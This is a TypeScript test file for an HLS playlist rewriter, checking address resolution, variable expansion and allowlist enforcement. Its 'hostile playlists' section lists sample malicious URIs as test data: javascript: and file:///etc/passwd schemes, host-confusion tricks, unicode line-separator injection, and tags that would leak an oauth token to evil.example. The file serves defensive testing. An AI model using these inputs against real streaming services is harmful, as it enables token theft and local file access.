import { describe, expect, it } from "vitest";
import { rewritePlaylist } from "./playlist";

const BASE = "https://api.put.test/v2/files/7/hls/media.m3u8?oauth_token=SECRET";

/** Shows in the result what was asked for: `<kind>(<address>)`. */
function rewrite(text: string, baseUrl = BASE): string {
  return rewritePlaylist(text, {
    baseUrl,
    isAllowed: (url) => /^https?:$/.test(url.protocol) && url.hostname.endsWith("put.test"),
    addressFor: (url, kind) => `${kind}(${url.href})`,
  });
}

const lines = (...all: string[]) => ["#EXTM3U", ...all].join("\n");
const body = (text: string) => rewrite(text).trim().split("\n").slice(1).join("\n");

describe("addresses", () => {
  it.each([
    ["absolute", "https://s1.put.test/a.ts?oauth_token=T", "https://s1.put.test/a.ts?oauth_token=T"],
    ["relative", "seg/1.ts", "https://api.put.test/v2/files/7/hls/seg/1.ts"],
    ["up", "../1.ts", "https://api.put.test/v2/files/7/1.ts"],
    ["by path", "/x/1.ts", "https://api.put.test/x/1.ts"],
    ["protocol-relative", "//s2.put.test/1.ts", "https://s2.put.test/1.ts"],
    ["query only", "?part=1", "https://api.put.test/v2/files/7/hls/media.m3u8?part=1"],
    ["with spaces around", "  1.ts  ", "https://api.put.test/v2/files/7/hls/1.ts"],
  ])("in a line, %s", (_, uri, address) => {
    expect(body(lines("#EXTINF:6,", uri))).toBe(`#EXTINF:6,\nbytes(${address})`);
  });

  it.each([
    ["EXT-X-MEDIA", 'TYPE=SUBTITLES,GROUP-ID="s",NAME="English, SDH",LANGUAGE="en",URI="s.m3u8"', "playlist"],
    ["EXT-X-MEDIA", 'URI="s.m3u8",TYPE=AUDIO,GROUP-ID="a, b",NAME="x"', "playlist"],
    ["EXT-X-I-FRAME-STREAM-INF", 'BANDWIDTH=1,CODECS="avc1.4d401f,mp4a.40.2",URI="s.m3u8"', "playlist"],
    ["EXT-X-RENDITION-REPORT", 'URI="s.m3u8",LAST-MSN=1', "playlist"],
    ["EXT-X-KEY", 'METHOD=AES-128,URI="s.m3u8",IV=0x01', "bytes"],
    ["EXT-X-SESSION-KEY", 'METHOD=AES-128,URI="s.m3u8"', "bytes"],
    ["EXT-X-MAP", 'URI="s.m3u8",BYTERANGE="720@0"', "bytes"],
    ["EXT-X-PART", 'DURATION=1,URI="s.m3u8"', "bytes"],
    ["EXT-X-PRELOAD-HINT", 'TYPE=PART,URI="s.m3u8"', "bytes"],
  ])("in #%s:%s", (tag, attributes, kind) => {
    const address = `${kind}(https://api.put.test/v2/files/7/hls/s.m3u8)`;
    expect(body(lines(`#${tag}:${attributes}`))).toBe(`#${tag}:${attributes.replace("s.m3u8", address)}`);
  });

  it("tells variants from segments by the tag before them", () => {
    const text = lines(
      '#EXT-X-STREAM-INF:BANDWIDTH=1,CODECS="avc1.4d401f,mp4a.40.2"',
      "a.m3u8",
      "#EXTINF:2,",
      "b.ts",
    );
    expect(body(text)).toBe(
      [
        '#EXT-X-STREAM-INF:BANDWIDTH=1,CODECS="avc1.4d401f,mp4a.40.2"',
        "playlist(https://api.put.test/v2/files/7/hls/a.m3u8)",
        "#EXTINF:2,",
        "bytes(https://api.put.test/v2/files/7/hls/b.ts)",
      ].join("\n"),
    );
  });

  it("keeps byte ranges, keys, dates and discontinuities where they are", () => {
    const tags = [
      "#EXT-X-VERSION:7",
      "#EXT-X-TARGETDURATION:6",
      "#EXT-X-MEDIA-SEQUENCE:0",
      "#EXT-X-PLAYLIST-TYPE:VOD",
      "#EXT-X-START:TIME-OFFSET=1.5,PRECISE=YES",
      "#EXT-X-DISCONTINUITY",
      "#EXT-X-PROGRAM-DATE-TIME:2025-01-02T03:04:05.000+05:45",
      "#EXT-X-BYTERANGE:1000@720",
      "#EXT-X-ENDLIST",
    ];
    expect(body(lines(...tags))).toBe(tags.join("\n"));
  });

  it.each([
    ["CRLF", "\r\n"],
    ["CR", "\r"],
    ["blank lines", "\n\n"],
  ])("reads %s", (_, separator) => {
    const text = ["#EXTM3U", "#EXTINF:6,", "1.ts", ""].join(separator);
    expect(rewrite(text)).toBe("#EXTM3U\n#EXTINF:6,\nbytes(https://api.put.test/v2/files/7/hls/1.ts)\n");
  });

  it("reads a byte order mark", () => {
    expect(rewrite("\uFEFF#EXTM3U\n")).toBe("#EXTM3U\n");
  });
});

describe("variables", () => {
  it("are put in and not passed on", () => {
    const text = lines('#EXT-X-DEFINE:NAME="t",VALUE="SECRET"', "#EXTINF:6,", "1.ts?oauth_token={$t}");
    expect(body(text)).toBe("#EXTINF:6,\nbytes(https://api.put.test/v2/files/7/hls/1.ts?oauth_token=SECRET)");
  });

  it("come from the playlist's own query", () => {
    const text = lines('#EXT-X-DEFINE:QUERYPARAM="oauth_token"', '#EXT-X-MAP:URI="i.mp4?t={$oauth_token}"');
    expect(body(text)).toBe('#EXT-X-MAP:URI="bytes(https://api.put.test/v2/files/7/hls/i.mp4?t=SECRET)"');
  });

  it.each([
    ["that nobody defined", lines("#EXTINF:6,", "{$x}.ts")],
    ["imported from a parent", lines('#EXT-X-DEFINE:IMPORT="x"')],
    ["without a value", lines('#EXT-X-DEFINE:NAME="x"')],
    ["absent from the query", lines('#EXT-X-DEFINE:QUERYPARAM="nothing"')],
  ])("%s refuse the playlist", (_, text) => {
    expect(() => rewrite(text)).toThrow();
  });

  it("cannot be grown beyond an address's length", () => {
    const text = lines(
      `#EXT-X-DEFINE:NAME="x",VALUE="${"y".repeat(2000)}"`,
      "#EXTINF:6,",
      "{$x}".repeat(2000),
    );
    expect(() => rewrite(text)).toThrow("too long");
  });

  it("are not expanded in one another", () => {
    const text = lines(
      '#EXT-X-DEFINE:NAME="a",VALUE="1"',
      '#EXT-X-DEFINE:NAME="b",VALUE="{$a}{$a}"',
      "#EXTINF:6,",
      "{$b}.ts",
    );
    expect(body(text)).toContain("hls/%7B$a%7D%7B$a%7D.ts");
  });
});

describe("hostile playlists", () => {
  it.each([
    ["a script", "javascript:alert(1)"],
    ["data", "data:text/plain,x"],
    ["a file", "file:///etc/passwd"],
    ["another host", "https://evil.example/1.ts"],
    ["another host without a scheme", "//evil.example/1.ts"],
    ["another host by backslashes", "\\\\evil.example\\1.ts"],
    ["another host by a tab in the middle", "https://evil\t.example/1.ts"],
    ["a host that only begins like ours", "https://put.test.evil.example/1.ts"],
    ["ours as a user name", "https://put.test@evil.example/1.ts"],
  ])("%s in a line refuses it all", (_, uri) => {
    expect(() => rewrite(lines("#EXTINF:6,", uri))).toThrow("not allowed");
  });

  it.each(["EXT-X-MEDIA", "EXT-X-KEY", "EXT-X-MAP", "EXT-X-PART"])(
    "another host in #%s refuses it all",
    (tag) => {
      expect(() => rewrite(lines(`#${tag}:URI="https://evil.example/x"`))).toThrow("https://evil.example");
    },
  );

  it.each(["EXT-X-I-FRAME-STREAM-INF", "EXT-X-RENDITION-REPORT", "EXT-X-SESSION-KEY", "EXT-X-PRELOAD-HINT"])(
    "another host in #%s, which nothing needs, drops the tag",
    (tag) => {
      expect(body(lines(`#${tag}:URI="https://evil.example/x"`))).toBe("");
    },
  );

  it("the second URI of a tag is rewritten as well", () => {
    expect(() => rewrite(lines('#EXT-X-MAP:URI="1.mp4",URI="https://evil.example/x"'))).toThrow(
      "not allowed",
    );
  });

  it("a URI without quotes is rewritten all the same", () => {
    expect(body(lines("#EXT-X-MAP:URI=1.mp4"))).toBe(
      '#EXT-X-MAP:URI="bytes(https://api.put.test/v2/files/7/hls/1.mp4)"',
    );
  });

  it.each([
    ["a line separator", "\u2028"],
    ["a paragraph separator", "\u2029"],
    ["a next-line mark", "\u0085"],
    ["a carriage return", "\r"],
  ])("a tag hidden behind %s is seen", (_, mark) => {
    expect(() =>
      rewrite(lines(`#EXT-X-VERSION:7${mark}#EXTINF:6,${mark}https://evil.example/1.ts`)),
    ).toThrow();
  });

  it.each([
    ["a comment", "# oauth_token=SECRET"],
    ["an unknown tag", "#EXT-X-PUTIO:TOKEN=SECRET"],
    ["session data", '#EXT-X-SESSION-DATA:DATA-ID="x",VALUE="SECRET"'],
    ["session data elsewhere", '#EXT-X-SESSION-DATA:DATA-ID="x",URI="https://evil.example/SECRET"'],
    ["an interstitial", '#EXT-X-DATERANGE:ID="x",X-ASSET-URI="https://evil.example/SECRET"'],
    ["a list of interstitials", '#EXT-X-DATERANGE:ID="x",X-ASSET-LIST="https://evil.example/SECRET"'],
    ["content steering", '#EXT-X-CONTENT-STEERING:SERVER-URI="https://evil.example/SECRET"'],
    ["a plain tag with more in it", "#EXT-X-VERSION:7?oauth_token=SECRET/"],
    ["a name of Object's", '#constructor:URI="SECRET"'],
  ])("%s goes", (_, line) => {
    expect(body(lines(line))).toBe("");
  });

  it("a title goes, and its segment stays", () => {
    expect(body(lines("#EXTINF:6.006,https://x/?oauth_token=SECRET", "1.ts"))).toMatch(
      /^#EXTINF:6.006,\nbytes/,
    );
  });

  it("a token in a rendition's name is blanked, and the name stays", () => {
    const text = lines('#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="x oauth_token=SECRET y",X-EXTRA="SECRET"');
    expect(body(text)).toBe('#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="x oauth_token= y"');
  });

  it.each([
    ["an HTML page", "<!doctype html><title>login</title>"],
    ["nothing", ""],
    ["a list without its first line", "#EXTINF:6,\n1.ts"],
    ["a segment without a duration", "#EXTM3U\n#EXTINF:,\n1.ts"],
    ["attributes that cannot be read", '#EXTM3U\n#EXT-X-MAP:URI="1.mp4'],
  ])("%s is refused", (_, text) => {
    expect(() => rewrite(text)).toThrow();
  });
});
